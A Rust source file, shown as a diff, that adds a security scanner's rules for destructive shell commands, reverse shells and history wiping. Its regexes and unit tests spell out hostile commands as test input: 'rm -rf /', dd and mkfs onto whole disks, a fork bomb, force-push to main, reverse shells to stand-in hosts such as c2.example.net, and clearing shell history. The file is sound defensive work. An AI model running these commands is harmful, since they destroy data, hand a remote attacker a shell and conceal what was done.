@@ -1,0 +1,392 @@
+//! Destructive shell commands (category `DestructiveShell`), plus shell
+//! tricks that hide what was done (`conceal.clear-history`).
+//!
+//! Covers the reference scanner's destructive regexes (`rm -rf /`,
+//! `> /dev/sda`, `mkfs.`, `dd if=`, the fork bomb, force-push to main) and
+//! reverse shells. The rules look at the *target* of a command: `rm -rf
+//! ./target` and `dd if=/dev/zero of=./test.bin` are everyday commands,
+//! `rm -rf ~` and `dd … of=/dev/sda` are not.
+
+use std::sync::LazyLock;
+
+use super::rule::{Hit, Lazy, Rule, compile};
+use super::{Category, Severity};
+
+/// Whole disks (not partitions) and raw devices.
+const DISK: &str = r"/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d+n\d+|mmcblk\d+|r?disk\d+)";
+const DEVICE_TRIGGERS: &[&str] = &[
+    "/dev/sd*",
+    "/dev/hd*",
+    "/dev/vd*",
+    "/dev/xvd*",
+    "/dev/nvme*",
+    "/dev/mmcblk*",
+    "/dev/disk*",
+    "/dev/rdisk*",
+];
+
+/// The line rules of this family.
+pub(super) fn rules() -> Vec<Rule> {
+    use Category::DestructiveShell as D;
+    use Severity::*;
+    vec![
+        // Recursive removal of the root, a system directory or the home
+        // directory. Options may come in any order and number.
+        Rule::new(
+            "shell.rm-rf-root",
+            D,
+            Critical,
+            &["rm -"],
+            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*?(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-{1,2}[a-z-]+\s+)*["']?(?:/\*?|~/?\*?|\$\{?home\}?/?\*?|/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|users|library|system)/?\*?)["']?(?:\s|$|[;&|)`])"#,
+        )
+        .requires(&[" /", "'/", "\"/", " ~", "'~", "\"~", "$home", "${home}", "--no-preserve-root"])
+        .warnable(),
+        Rule::new(
+            "shell.find-delete-root",
+            D,
+            Critical,
+            &["find /", "find ~", "find $home", "find ${home}", "find \"$home", "find \"${home}"],
+            r"\bfind\s+(?:/|~/?|\$\{?home\}?/?)\s[^\n]*(?:-delete\b|-exec\s+rm\b)",
+        )
+        .requires(&["-delete", "-exec"])
+        .warnable(),
+        Rule::new(
+            "shell.disk-format",
+            D,
+            High,
+            &["mkfs", "mke2fs", "wipefs", "mkswap"],
+            r"\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|wipefs\s+(?:-\S+\s+)*-a|mkswap)\b",
+        )
+        .assess(disk_format)
+        .warnable(),
+        Rule::new(
+            "shell.overwrite-disk",
+            D,
+            Critical,
+            DEVICE_TRIGGERS,
+            format!(r"(?:\bdd\b[^\n]*\bof={DISK}|>\s*{DISK}|\bshred\b[^\n]*{DISK}|\bcp\s+\S+\s+{DISK})\b"),
+        )
+        .warnable(),
+        // The reference flags every `dd if=`; copying into a file is routine,
+        // so only a disk target (above) blocks.
+        Rule::new("shell.dd", D, Medium, &["dd "], r"\bdd\s+(?:\w+=\S+\s+)*if=").requires(&["if="]).warnable(),
+        Rule::new(
+            "shell.fork-bomb",
+            D,
+            Critical,
+            &["()"],
+            r"([a-z_][a-z0-9_]*|:)\s*\(\s*\)\s*\{\s*([a-z_][a-z0-9_]*|:)\s*\|\s*([a-z_][a-z0-9_]*|:)\s*&",
+        )
+        .requires(&["&"])
+        .assess(fork_bomb),
+        Rule::new("shell.force-push-protected", D, High, &["git push", "git -c"], r"\bgit\s+(?:-c\s+\S+\s+)*push\b[^\n]*")
+            .requires(&["main", "master", "--all"])
+            .assess(force_push)
+            .warnable(),
+        Rule::new(
+            "shell.reverse-shell",
+            D,
+            Critical,
+            &["/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "netcat ", "socat ", "mkfifo", "socket", "fsockopen"],
+            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|\b(?:nc|ncat|netcat)\b[^\n|;&]*\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\b[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n]*\|\s*/bin/(?:ba)?sh\b|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
+        )
+        .requires(&["/dev/tcp/", "/dev/udp/", "-e", "-c", "exec", "|", "connect", "fsockopen"])
+        .assess(reverse_shell)
+        .warnable(),
+        Rule::new(
+            "conceal.clear-history",
+            Category::Concealment,
+            High,
+            &["histfile", "histsize", "history -", "set +o history", "_history", "/var/log/"],
+            r"\bunset\s+histfile\b|\bhistory\s+-[a-z]*c\b|\bhistfile=/dev/null|\bhistfilesize=0\b|\bset\s+\+o\s+history\b|\b(?:rm|shred|truncate)\b[^\n]*(?:\.(?:bash|zsh|python|mysql|psql)_history\b|/var/log/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog)\b)|>\s*/var/log/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog)\b",
+        ),
+    ]
+}
+
+static WHOLE_DISK: Lazy = LazyLock::new(|| compile(&format!(r"{DISK}\b")));
+
+fn disk_format(h: &Hit<'_>) -> Option<Severity> {
+    // Formatting the system's first disk, not a partition, is the attack.
+    Some(if WHOLE_DISK.is_match(h.after().as_bytes()) {
+        Severity::Critical
+    } else {
+        h.base
+    })
+}
+
+static FORK: Lazy = LazyLock::new(|| {
+    compile(
+        r"([a-z_][a-z0-9_]*|:)\s*\(\s*\)\s*\{\s*([a-z_][a-z0-9_]*|:)\s*\|\s*([a-z_][a-z0-9_]*|:)\s*&",
+    )
+});
+
+/// A function that pipes itself into itself in the background.
+fn fork_bomb(h: &Hit<'_>) -> Option<Severity> {
+    let caps = FORK.captures(h.text().as_bytes())?;
+    let name = caps.get(1)?.as_bytes();
+    (caps.get(2)?.as_bytes() == name && caps.get(3)?.as_bytes() == name).then_some(h.base)
+}
+
+/// Force (`--force`, `-f`, `+ref`) to `main`/`master`, or to every branch.
+/// `--force-with-lease` to a protected branch is still worth a look.
+fn force_push(h: &Hit<'_>) -> Option<Severity> {
+    let cmd = h.text();
+    let cmd = cmd.split(['|', ';', '#', '&']).next().unwrap_or(cmd);
+    let mut force = false;
+    let mut lease = false;
+    let mut protected = false;
+    let mut all = false;
+    let mut delete = false;
+    let mut tokens = cmd
+        .split_whitespace()
+        .skip_while(|t| !t.eq_ignore_ascii_case("push"));
+    tokens.next();
+    for raw in tokens {
+        let t = raw.trim_matches(|c| c == '`' || c == '"' || c == '\'');
+        let lower = t.to_ascii_lowercase();
+        match lower.as_str() {
+            "--force" | "-f" => force = true,
+            "--all" => all = true,
+            "--delete" | "-d" => delete = true,
+            l if l.starts_with("--force-with-lease") || l == "--force-if-includes" => lease = true,
+            l if l.starts_with('-') && !l.starts_with("--") && l[1..].contains('f') => force = true,
+            l => {
+                let plus = l.starts_with('+');
+                let colon_delete = l.starts_with(':');
+                let refname = l.trim_start_matches(['+', ':']);
+                let target = refname.rsplit(':').next().unwrap_or(refname);
+                let target = target.trim_start_matches("refs/heads/");
+                if matches!(target, "main" | "master") {
+                    protected = true;
+                    force |= plus;
+                    delete |= colon_delete;
+                }
+            }
+        }
+    }
+    if protected && (force || delete) || force && all {
+        Some(Severity::High)
+    } else if protected && lease {
+        Some(Severity::Medium)
+    } else {
+        None
+    }
+}
+
+static INTERACTIVE: Lazy = LazyLock::new(|| compile(r"(?:\s-i\b|>&|<&|0>&1|\d<>|exec\s+\d)"));
+
+/// Bash's `/dev/tcp` also serves port checks (`</dev/tcp/host/5432`); only
+/// an interactive shell wired to it is a reverse shell.
+fn reverse_shell(h: &Hit<'_>) -> Option<Severity> {
+    let m = h.text().to_ascii_lowercase();
+    if m.starts_with("/dev/tcp/") || m.starts_with("/dev/udp/") {
+        let line = h.line().as_bytes();
+        return Some(if INTERACTIVE.is_match(line) {
+            h.base
+        } else {
+            Severity::Medium
+        });
+    }
+    Some(h.base)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::scan::testutil::{assert_hit, assert_not_flagged, assert_severity};
+    use crate::scan::{Category::*, Severity::*};
+
+    #[test]
+    fn flags_rm_rf_of_root_home_and_system_dirs() {
+        assert_hit(
+            "# x\n\n```\nsudo rm -rf --no-preserve-root /\n```\n",
+            "shell.rm-rf-root",
+            DestructiveShell,
+            Critical,
+            4,
+        );
+        assert_hit(
+            "rm -rf ~/",
+            "shell.rm-rf-root",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "RM -Rf $HOME/*",
+            "shell.rm-rf-root",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "rm -r -f /usr",
+            "shell.rm-rf-root",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+    }
+
+    #[test]
+    fn ignores_rm_rf_of_build_directories() {
+        assert_not_flagged(
+            "rm -rf ./target\nrm -rf node_modules dist/\nrm -rf /tmp/build-123\nrm -rf ~/.cache/pip\n",
+        );
+    }
+
+    #[test]
+    fn lowers_rm_rf_root_in_a_warning() {
+        assert_severity(
+            "Never run `rm -rf /` on a shared host.",
+            "shell.rm-rf-root",
+            Low,
+        );
+    }
+
+    #[test]
+    fn flags_dd_to_a_disk_and_mkfs() {
+        assert_hit(
+            "a\nsudo dd if=/dev/zero of=/dev/sda bs=1M",
+            "shell.overwrite-disk",
+            DestructiveShell,
+            Critical,
+            2,
+        );
+        assert_hit(
+            "cat junk > /dev/nvme0n1",
+            "shell.overwrite-disk",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "sudo mkfs.ext4 -F /dev/sda",
+            "shell.disk-format",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "sudo mkfs.exfat /dev/sdX1",
+            "shell.disk-format",
+            DestructiveShell,
+            High,
+            1,
+        );
+    }
+
+    #[test]
+    fn keeps_dd_into_a_file_below_the_threshold() {
+        assert_severity(
+            "dd if=/dev/zero of=./test.bin bs=1M count=10",
+            "shell.dd",
+            Medium,
+        );
+        assert_not_flagged(
+            "dd if=/dev/zero of=./test.bin bs=1M count=10\ncat /dev/sda1 > /dev/null 2>/dev/null",
+        );
+    }
+
+    #[test]
+    fn flags_fork_bombs_whatever_the_name() {
+        assert_hit(
+            "x\n:(){ :|:& };:",
+            "shell.fork-bomb",
+            DestructiveShell,
+            Critical,
+            2,
+        );
+        assert_hit(
+            "bomb() { bomb | bomb & }; bomb",
+            "shell.fork-bomb",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_not_flagged("build() { make | tee log & }\nfoo() { bar | baz & }");
+    }
+
+    #[test]
+    fn flags_force_push_to_main() {
+        assert_hit(
+            "git push --force origin main",
+            "shell.force-push-protected",
+            DestructiveShell,
+            High,
+            1,
+        );
+        assert_hit(
+            "git push -f origin HEAD:master",
+            "shell.force-push-protected",
+            DestructiveShell,
+            High,
+            1,
+        );
+        assert_hit(
+            "git push origin +main",
+            "shell.force-push-protected",
+            DestructiveShell,
+            High,
+            1,
+        );
+    }
+
+    #[test]
+    fn ignores_force_with_lease_to_a_feature_branch() {
+        assert_not_flagged(
+            "git push --force-with-lease origin feature/x\ngit push -u origin main\ngit push --force\n",
+        );
+        assert_severity(
+            "git push --force-with-lease origin main",
+            "shell.force-push-protected",
+            Medium,
+        );
+    }
+
+    #[test]
+    fn flags_reverse_shells() {
+        assert_hit(
+            "bash -i >& /dev/tcp/c2.example.net/4444 0>&1",
+            "shell.reverse-shell",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "nohup nc -e /bin/sh relay.example.net 9001 &",
+            "shell.reverse-shell",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+        assert_hit(
+            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'",
+            "shell.reverse-shell",
+            DestructiveShell,
+            Critical,
+            1,
+        );
+    }
+
+    #[test]
+    fn keeps_dev_tcp_port_checks_below_the_threshold() {
+        assert_severity(
+            "timeout 1 bash -c '</dev/tcp/db.example/5432' && echo open",
+            "shell.reverse-shell",
+            Medium,
+        );
+        assert_not_flagged("nc -zv db.example 5432");
+    }
+
+    #[test]
+    fn flags_history_wiping() {
+        assert_hit(
+            "unset HISTFILE; history -c",
+            "conceal.clear-history",
+            Concealment,
+            High,
+            1,
+        );
+        assert_not_flagged("history | grep docker\nexport HISTSIZE=100000");
+    }
+}
